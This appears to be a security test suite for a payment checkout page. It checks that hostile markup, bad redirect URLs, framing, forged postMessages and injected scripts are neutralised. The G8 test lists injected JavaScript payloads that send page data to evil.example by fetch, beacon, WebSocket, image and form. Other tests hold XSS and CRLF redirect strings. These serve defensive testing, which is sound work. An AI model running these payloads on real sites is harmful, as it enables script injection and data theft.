import assert from 'node:assert/strict'
import { once } from 'node:events'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { after, afterEach, test } from 'node:test'
import type { Page } from 'playwright-core'
import { sql } from '../../../src/database/sql.ts'
import { embedId } from '../../../src/http/checkout/embed.ts'
import { type PaymentId, uuidOf } from '../../../src/kernel/ids.ts'
import { brandMerchant } from '../../../src/merchants/manage-merchants.ts'
import { buildAssets } from '../../../web/build.ts'
import { openBrowser } from '../../support/browser.ts'
import { newCheckout, reaches } from '../../support/customer.ts'
import { everyState, openPage, type Shown } from '../../support/every-state.ts'
import { MARKUP, NOT_ADDRESSES } from '../../support/hostile.ts'
import { attack, type Copied, copiesWith } from '../../support/hostile-browser.ts'
import { AS_IN_PRODUCTION, eventually, request, startPaying } from '../../support/paying.ts'

const service = await startPaying({ providerHttp: AS_IN_PRODUCTION })
const { database, baseUrl, parts } = service
const shop = await service.addShop()
await brandMerchant(parts, 'test', shop.merchantId, { returnAfterSeconds: 60 })
const states = await everyState(service, shop, { redirectURL: 'https://shop.example/thanks' })
const assets = await buildAssets()
const browser = await openBrowser()
afterEach(() => Promise.all(browser.contexts().map((context) => context.close())))

// PostgreSQL takes no NUL, so there can be none in a row.
const STORABLE = MARKUP.filter((text) => !text.includes('\0'))

/** The bones of a document: every element and the names of its attributes, and where each address in it leads. */
const BONES = `(texts) => texts.map((text) => {
  const bones = []
  const walk = (node) => {
    for (const element of node.children) {
      const names = element.getAttributeNames()
      bones.push(element.localName + '[' + names.sort() + ']')
      for (const name of ['href', 'src', 'action', 'data-return', 'data-frame', 'data-go']) {
        if (names.includes(name)) bones.push(name + ' ' + new URL(element.getAttribute(name), 'https://here.example/pay/x').protocol)
      }
      walk(element.localName === 'template' ? element.content : element)
    }
  }
  walk(new DOMParser().parseFromString(text, 'text/html'))
  return bones.join(' ')
})`

async function bonesOf(page: Page, texts: string[]): Promise<string[]> {
  const lean = texts.map((text) => text.replace(assets.checkoutStyle, '').replace(assets.checkoutScript, ''))
  return (await page.evaluate(`(${BONES})(${JSON.stringify(lean)})`)) as string[]
}

async function textsAt(urls: string[], headers: Record<string, string> = {}): Promise<string[]> {
  const texts: string[] = []
  for (let from = 0; from < urls.length; from += 16) {
    const some = await Promise.all(urls.slice(from, from + 16).map((url) => request(url, 'GET', headers)))
    for (const [index, { status, body }] of some.entries()) {
      assert.equal(status, 200, urls[from + index])
      texts.push(body)
    }
  }
  return texts
}

const withQuery = (url: string, query: Record<string, string>) => {
  const address = new URL(url)
  for (const [name, value] of Object.entries(query)) address.searchParams.set(name, value)
  return address.href
}

test(`G1: ${MARKUP.length} hostile texts in every field change nothing about the page but its text, in every state`, async () => {
  const page = await (await browser.newContext()).newPage()
  for (const [state, shown] of Object.entries(states)) {
    // What surrounds the panel is the same in every state.
    const headers: Record<string, string> = state === 'choose' ? {} : { 'x-panel': 'x' }
    const [plain] = await copiesWith(database, shop, shown, [`Plain ${state}`])
    const copies = await copiesWith(database, shop, shown, STORABLE)
    const texts = await textsAt(
      [plain as Copied, ...copies].map(({ url }) => url),
      headers,
    )
    const [asItIs, ...bones] = await bonesOf(page, texts)
    assert.match(String(asItIs), /main\[data-/)
    const bent = copies.filter((_, index) => bones[index] !== asItIs).map(({ text }) => text)
    assert.deepEqual(bent, [], state)
  }
})

/** A parser makes a line break of a carriage return, in any text. */
const asParsed = (text: string) => text.replaceAll(/\r\n?/g, '\n')

test('G1: hostile values are shown as text in a real browser: on the page, in its panel, embedded, and in the URL', async () => {
  const { page, harm } = await attack(browser, baseUrl)
  // What would break out of an attribute goes where texts stand in attributes; the rest goes round.
  const inAttributes = [states.awaiting, states.already_paid]
  const turns = STORABLE.map((text, index) => {
    const places = /["'`]/.test(text) ? inAttributes : Object.values(states)
    return { text, place: places[index % places.length] as Shown }
  })
  const copies = await Promise.all(
    [...new Set(turns.map(({ place }) => place))].map((place) =>
      copiesWith(
        database,
        shop,
        place,
        turns.filter((turn) => turn.place === place).map(({ text }) => text),
      ),
    ),
  )
  for (const [index, { text, url }] of copies.flat().entries()) {
    const short = [...text].slice(0, 60).join('') // an address has 8 KiB
    const query = Object.fromEntries(['lang', 'theme', 'method', 'x', short].map((name) => [name, short]))
    const embed: Record<string, string> =
      index % 3 === 0 ? { embed: '1', origin: index % 2 ? short : 'http://localhost:8080' } : {}
    const answer = await page.goto(withQuery(url, { ...query, ...embed }))
    assert.equal(answer?.status(), 200, text)
    const [name, reference] = (await page.evaluate(
      `[document.querySelector('h1').textContent, document.querySelector('header p bdi').textContent]`,
    )) as string[]
    assert.equal(reference, asParsed(text))
    const letters = [...text.replaceAll(/[\p{Cc}\u202a-\u202e\u2066-\u2069]/gu, '')]
    assert.equal(name, asParsed(letters.length > 40 ? `${letters.slice(0, 39).join('')}…` : letters.join('')))
    assert.deepEqual(harm, [], text)
  }
})

test('G1: hostile merchant names are shown as text on the provider’s page', async () => {
  const { page, harm } = await attack(browser, baseUrl)
  const { link } = (await shop.payment(states.provider.id)).attempts[0].instructions
  const texts: string[] = []
  for (const text of ['Plain', ...STORABLE]) {
    const name = [...text].slice(0, 200).join('')
    await database.rows(
      sql`update gateway_payments set merchant_name = ${name} where page_token = ${link.split('/').at(-1)}`,
    )
    texts.push((await request(link, 'GET')).body)
    if (texts.length % 10 === 2) await page.goto(link)
  }
  const [plain, ...bones] = await bonesOf(page, texts)
  assert.deepEqual(
    STORABLE.filter((_, index) => bones[index] !== plain),
    [],
  )
  assert.deepEqual(harm, [])
})

test('G1: the API stores hostile values unchanged or refuses them with the field’s name', async () => {
  for (const text of MARKUP) {
    const hasControls = /[\p{Cc}\p{Zl}\p{Zp}]/u.test(text)
    const reference = text.replaceAll(/[^\x21-\x7e]/g, '').slice(0, 60)
    const { status, body } = await shop.call('POST', '/payments/v1/checkouts', {
      amount: 1,
      country: 'NG',
      reference: `${reference}${Math.random()}`,
      user: {
        email: 'ada@example.com',
        name: [...text].slice(0, 99).join(''),
        phoneNumber: [...text].slice(0, 16).join(''),
      },
    })
    if (status === 201) assert.equal((await request(body.data.url, 'GET')).status, 200)
    else assert.ok(hasControls && status === 400 && body.errors[0].pointer.startsWith('/user/'), `${text}: ${status}`)
    const { status: withMetadata } = await shop.call('POST', '/payments/v1/checkouts', {
      amount: 1,
      country: 'NG',
      user: { email: 'ada@example.com' },
      metadata: { [text.slice(0, 40).toWellFormed()]: text },
    })
    assert.ok([201, 400].includes(withMetadata), `${text}: ${withMetadata}`)
  }
})

test(`G2: ${NOT_ADDRESSES.length} addresses that are none are refused when a payment is made, whichever way`, async () => {
  for (const redirectURL of NOT_ADDRESSES) {
    const asked = { amount: 1_250_000, country: 'NG', user: { email: 'ada@example.com' }, redirectURL }
    const answers = [await shop.call('POST', '/payments/v1/checkouts', asked), await shop.initialize({ redirectURL })]
    for (const { status, body } of answers) {
      assert.equal(status, 400, JSON.stringify(redirectURL))
      assert.equal(body.code, 'invalid_request')
      assert.deepEqual(
        body.errors.map(({ pointer }: { pointer: string }) => pointer),
        ['/redirectURL'],
      )
    }
  }
})

test('G2: a redirect URL with other alphabets or markup leads to no other host', async () => {
  for (const [redirectURL, leadsTo] of [
    ['https://bücher.example/dänke', 'https://xn--bcher-kva.example/d%C3%A4nke?'],
    ['https://xn--bcher-kva.example/', 'https://xn--bcher-kva.example/?'],
    ['https://shop。example/', 'https://shop.example/?'],
    ['https://SHOP.example:443/a/../b', 'https://shop.example/b?'],
    ['https://shop.example/"><script>pwned()</script>', 'https://shop.example/%22%3E%3Cscript%3Epwned()%3C/script%3E?'],
    ['https://shop.example/%0d%0aset-cookie:x', 'https://shop.example/%0d%0aset-cookie:x?'],
    ['https://shop.example//evil.example', 'https://shop.example//evil.example?'],
    ['https://shop.example/?next=javascript:pwned()', 'https://shop.example/?next=javascript%3Apwned%28%29&'],
    ['https://shop.example/#javascript:pwned()', 'https://shop.example/?'],
  ] as const) {
    const { id, url } = await newCheckout(shop, { redirectURL })
    await shop.call('POST', `/payments/v1/payments/${id}/cancel`)
    const { body } = await request(url, 'GET')
    const href = /<a class="button main" href="([^"]*)" rel="noreferrer"/.exec(body)?.[1]?.replaceAll('&amp;', '&')
    assert.ok(href?.startsWith(leadsTo), `${redirectURL} leads to ${href}`)
  }
})

test('G2: a stored hostile URL is not used: no automatic return, no link, no redirect', async () => {
  const bad = NOT_ADDRESSES.filter((text) => !text.includes('\0'))
  await database.rows(sql`update merchants set return_after_seconds = 0 where id = ${shop.merchantUuid}`)
  const paid = await copiesWith(database, shop, states.succeeded, bad, (text) => text)
  const { page, harm } = await attack(browser, baseUrl)
  for (const { text, url } of paid) {
    await page.goto(url)
    assert.equal(page.url(), url, text)
    const seen = `[document.querySelector('#panel').dataset.state, document.querySelectorAll('#panel a[href], [data-return]').length]`
    assert.deepEqual(await page.evaluate(seen), ['succeeded', 0], text)
  }
  for (const { text, url, attempt } of paid.filter((_, index) => index % 8 === 0)) {
    const { headers } = await request(`${baseUrl}/return/${attempt}`, 'GET')
    assert.equal(headers.location, url, text)
  }
  for (const { text, url } of await copiesWith(database, shop, states.choose, bad, (each) => each)) {
    const { status, headers } = await (await openPage(url)).post({ action: 'cancel' }, { 'x-panel': 'pending' })
    assert.deepEqual([status, headers['x-go']], [200, undefined], text)
  }
  assert.deepEqual(harm, [])

  const [good] = await copiesWith(database, shop, states.succeeded, ['good'], () => `${baseUrl}/healthz`)
  await page.goto(String(good?.url))
  await page.waitForURL(/healthz\?status=successful/) // so a bad one would have been gone to
})

/** Shops: each a page of its own origin with frames in it. */
async function openShop(framed: (here: string) => string): Promise<string> {
  const server = createServer((_, response) => {
    response.writeHead(200, { 'content-type': 'text/html' }).end(`<!doctype html><title>Shop</title>${framed(here)}`)
  })
  server.listen(0, '127.0.0.1')
  await once(server, 'listening')
  after(() => {
    server.closeAllConnections()
    server.close()
  })
  const here = `http://localhost:${(server.address() as AddressInfo).port}`
  return here
}

test('G4: the page cannot be framed, and the widget’s page only by the merchant’s origins', async () => {
  const other = await service.addShop()
  await brandMerchant(parts, 'test', other.merchantId, { origins: ['https://shop.example'] })
  const { id, url } = await newCheckout(other)
  await database.rows(sql`update payments set mode = 'live' where id = ${uuidOf(id as PaymentId)}`)
  const embedded = embedId(parts.secrets, id as PaymentId, new Date())
  const inFrame = (origin: string) => `${baseUrl}/pay/${embedded}?embed=1&origin=${encodeURIComponent(origin)}`
  // Sites of the internet, which a browser asks about before it lets them show what is on this machine.
  const context = await browser.newContext({ permissions: ['local-network-access'] })
  const page = await context.newPage()
  const refused: string[] = []
  page.on('requestfailed', (asked) => {
    const why = asked.failure()?.errorText
    if (why !== 'net::ERR_ABORTED') refused.push(`${asked.url()} ${why}`) // by going on to the next
  })
  const shownIn = async (site: string, framed: string) => {
    await context.unrouteAll()
    await context.route(`${site}/**`, (route) =>
      route.fulfill({ contentType: 'text/html', body: `<!doctype html><iframe src="${framed}"></iframe>` }),
    )
    refused.length = 0
    await page.goto(`${site}/`)
    const isShown = (await page.frames()[1]?.locator('main').count()) === 1
    assert.deepEqual(refused, isShown ? [] : [`${framed} net::ERR_BLOCKED_BY_RESPONSE`])
    return isShown
  }
  assert.equal(await shownIn('https://shop.example', inFrame('https://shop.example')), true)
  assert.equal(await shownIn('https://evil.example', inFrame('https://shop.example')), false)
  assert.equal(await shownIn('https://evil.example', inFrame('https://evil.example')), false)
  assert.equal(await shownIn('https://shop.example.evil.example', inFrame('https://shop.example')), false)
  for (const page of [states.choose.url, states.already_paid.url, `${baseUrl}/pay/nothing`, url])
    assert.equal(await shownIn('https://shop.example', page), false, page)
})

test('G7: forged messages from any window change nothing', async () => {
  const { id, reference } = await newCheckout(shop)
  const embedded = embedId(parts.secrets, id as PaymentId, new Date())
  const forgeries = ['ready', 'status', 'close', 'error', 'ask-close', 'theme', 'success', '__proto__'].flatMap(
    (type) => [
      { pay: 1, type, status: 'successful', theme: 'dark', code: 'x' },
      { pay: '1', type, status: 'successful', theme: 'dark' },
    ],
  )
  const post = `for (const forged of ${JSON.stringify([...forgeries, null, 'pay', 7, []])}) frames.postMessage(forged, '*')`
  const evil = await openShop(
    () => `<script>setInterval(() => { const frames = parent.frames[0]; ${post} }, 50)</script>`,
  )
  const site = await openShop(
    (here) =>
      `<iframe name="pay" src="${baseUrl}/pay/${embedded}?embed=1&origin=${encodeURIComponent(here)}"></iframe><iframe src="${evil}"></iframe>`,
  )
  const { page, harm } = await attack(browser, baseUrl, { hosts: [new URL(site).host, new URL(evil).host] })
  await page.goto(site)
  const frame = page.frame('pay')
  await frame?.locator('#panel[data-state=choose]').waitFor()
  // The shop itself may ask to close and may choose colours; it cannot make anything so.
  await page.evaluate(
    `const frames = window.frames[0]; for (const forged of ${JSON.stringify(
      forgeries.filter(({ type }) => type !== 'theme'),
    )}) frames.postMessage(forged, '*')`,
  )
  await frame?.waitForFunction('new Promise((resolve) => setTimeout(resolve, 300, true))')
  assert.equal(await frame?.locator('#panel').getAttribute('data-state'), 'choose')
  assert.equal(await frame?.locator('html').getAttribute('data-theme'), null, 'a stranger chooses no colours')
  assert.equal((await shop.payment(reference)).status, 'pending')
  assert.deepEqual(harm, [])
})

test('G7: a URL with status=successful does not change the page', async () => {
  const { page, harm } = await attack(browser, baseUrl)
  const claims = { status: 'successful', state: 'succeeded', reference: 'x', back: '1', sent: '1', paid: 'true' }
  for (const [state, { url }] of Object.entries(states)) {
    const { body } = await request(withQuery(url, claims), 'GET', { 'x-panel': 'successful' })
    const isPaid = ['succeeded', 'already_paid'].includes(state)
    assert.equal(/data-status="successful"/.test(body), isPaid, state)
    assert.equal(/Payment received/.test(body), isPaid, state)
  }
  const { id } = states.provider
  const [attempt] = (await shop.payment(id)).attempts
  await page.goto(withQuery(`${baseUrl}/return/${attempt.id}`, { ...claims, trxref: 'x', transaction_id: '1' }))
  await reaches(page, 'provider')
  const after = await shop.payment(id)
  assert.deepEqual([after.status, after.attempts[0].status], ['pending', 'pending'])
  assert.deepEqual(harm, [])
})

test('G8: a script that got into the page does not run, and what it would send goes nowhere', async () => {
  const INJECTED: Record<string, string> = {
    'a script': `const script = document.createElement('script'); script.text = 'pwned()'; document.body.append(script)`,
    'a script of another host': `const script = document.createElement('script'); script.src = 'https://evil.example/x.js'; document.body.append(script)`,
    'a script of our own host': `const script = document.createElement('script'); script.src = '/widget/v1.js'; script.onload = pwned; document.body.append(script)`,
    'a module': `const script = document.createElement('script'); script.type = 'module'; script.text = 'pwned()'; document.body.append(script)`,
    'a handler': `document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="pwned()">')`,
    'an address': `location.href = 'javascript:pwned()'`,
    'a link': `document.body.insertAdjacentHTML('beforeend', '<a id=evil href="javascript:pwned()">x</a>'); evil.click()`,
    'a frame': `document.body.insertAdjacentHTML('beforeend', '<iframe src="https://evil.example"></iframe>')`,
    'a frame with its own text': `document.body.insertAdjacentHTML('beforeend', '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>')`,
    'a picture': `new Image().src = 'https://evil.example/?' + document.title`,
    'a request': `fetch('https://evil.example/').catch(() => {})`,
    'a beacon': `navigator.sendBeacon('https://evil.example/', 'x')`,
    'a socket': `try { new WebSocket('wss://evil.example/') } catch {}`,
    'a style': `document.body.insertAdjacentHTML('beforeend', '<style>@import "https://evil.example"</style>')`,
    'a font': `document.body.insertAdjacentHTML('beforeend', '<link rel=stylesheet href="https://evil.example/x.css">')`,
    'a form': `document.body.insertAdjacentHTML('beforeend', '<form id=evil action="https://evil.example/"></form>'); evil.submit()`,
    'another base': `document.head.insertAdjacentHTML('beforeend', '<base href="https://evil.example/">'); new Image().src = 'x.png'`,
    'an object': `document.body.insertAdjacentHTML('beforeend', '<object data="https://evil.example/"></object>')`,
    'a worker': `try { new Worker('data:,postMessage(1)') } catch {}`,
    'text as a program': `setTimeout('pwned()', 0)`,
  }
  const { page, harm } = await attack(browser, baseUrl)
  for (const [what, code] of Object.entries(INJECTED)) {
    await page.goto(states.choose.url)
    harm.length = 0
    await page.evaluate(`{ ${code} }`)
    await eventually(
      async () => harm.length,
      (count) => count > 0,
    )
    assert.deepEqual(
      harm.filter((each) => !each.startsWith('the policy had to stop')),
      [],
      what,
    )
    assert.equal(page.url(), states.choose.url)
  }
})
